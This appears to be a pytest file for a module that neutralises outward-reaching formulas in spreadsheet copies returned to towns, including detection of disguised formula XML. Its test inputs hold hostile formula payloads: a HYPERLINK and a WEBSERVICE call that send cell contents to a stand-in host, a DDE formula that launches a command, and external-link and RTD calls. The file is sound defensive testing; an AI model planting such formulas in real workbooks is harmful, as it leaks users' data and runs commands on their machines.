"""Formulas of a town's own in the copy that goes back."""

from __future__ import annotations

from io import BytesIO

import pytest
from openpyxl import load_workbook

from rules.dossiers.checks.annotation import LIST_TITLE
from tests.workbooks.annotate.test_annotate import copy_of
from tests.workbooks.confined.test_examine import SURVEY, edited
from tests.workbooks.samples import TEMPLATE
from workbooks.annotate.formulas import only_reckons, put_out_of_work


@pytest.mark.parametrize(
    "formula",
    [
        'HYPERLINK("https://elsewhere.example.invalid/?"&B5,"点击查看")',
        '_xlfn.WEBSERVICE("https://elsewhere.example.invalid/"&A1)',
        "cmd|'/c calc'!A1",
        "[1]Sheet1!A1",
        'SUM(1,hyperlink ("x"))',
        'RTD("prog",,"topic")',
    ],
)
def test_formula_that_reaches_out_is_out_of_work_in_the_copy(formula: str) -> None:
    def put(book: object) -> None:
        book[SURVEY]["Z9"] = f"={formula}"  # type: ignore[index]

    copy = load_workbook(BytesIO(copy_of(edited(put), findings=())))

    assert copy[SURVEY]["Z9"].value == '="公式已停用"'


def test_formulas_of_the_template_stay_at_work() -> None:
    before, after = (load_workbook(BytesIO(data)) for data in (TEMPLATE, copy_of(TEMPLATE, findings=())))

    formulas = [
        {
            (sheet.title, cell.coordinate): cell.value
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.data_type == "f" and sheet.title != LIST_TITLE
        }
        for book in (before, after)
    ]
    assert formulas[0] == formulas[1] != {}


@pytest.mark.parametrize(
    "inside",
    [b"&#72;YPERLINK(A1)", b"<![CDATA[HYPERLINK(A1)]]>", b"HYPER<!-- x -->LINK(A1)"],
)
def test_formula_in_disguise_is_seen(inside: bytes) -> None:
    xml = b'<x:c><x:f t="shared" si="0">' + inside + b"</x:f><x:v>1</x:v></x:c>"

    assert put_out_of_work(xml) == xml.replace(inside, '"公式已停用"'.encode())


def test_formula_that_only_speaks_of_a_link_reckons() -> None:
    assert only_reckons('IF(A1>0,"HYPERLINK(x)|[1]",_xlfn.DISPIMG("ID_1",1))')
